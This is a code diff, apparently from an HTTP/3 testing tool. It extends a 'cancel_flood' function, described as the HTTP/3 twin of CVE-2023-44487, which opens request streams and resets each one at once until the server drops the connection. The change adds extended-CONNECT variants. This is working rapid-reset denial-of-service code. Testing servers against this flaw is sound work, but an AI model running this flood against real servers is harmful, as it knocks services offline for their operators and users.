@@ -354,10 +354,12 @@ async def close_client(client: H3Client) -> None:
     await client.wait_closed()
 
 
-async def cancel_flood(c: H3Client, path: str, upload: bool, seconds: float) -> int:
+async def cancel_flood(c: H3Client, path: str, upload: bool, seconds: float, method: str | None = None,
+                       headers: list[tuple[str, str]] | None = None) -> int:
     """Open request streams and cancel each at once (CVE-2023-44487's HTTP/3 twin) for up to
     `seconds` or until the server closes the connection: GETs stopped and reset, or uploads
-    reset mid-body. The cancels sent."""
+    reset mid-body (or `method` with `headers`, its stream left open: an extended CONNECT).
+    The cancels sent."""
     loop = asyncio.get_running_loop()
     end = loop.time() + seconds
     sent = 0
@@ -366,7 +368,11 @@ async def cancel_flood(c: H3Client, path: str, upload: bool, seconds: float) -> 
             await asyncio.wait_for(c.when_a_stream_may_open(), max(0.01, end - loop.time()))
         except (asyncio.TimeoutError, ConnectionError):
             break
-        sid = c.send_head("POST" if upload else "GET", path, end_stream=not upload, body=b"x" * 1000 if upload else b"")
+        if method is not None:
+            sid = c.send_head(method, path, end_stream=False, headers=headers)
+        else:
+            sid = c.send_head("POST" if upload else "GET", path, end_stream=not upload,
+                              body=b"x" * 1000 if upload else b"")
         c.cancel(sid, reset=True)
         sent += 1
         if sent % 20 == 0:
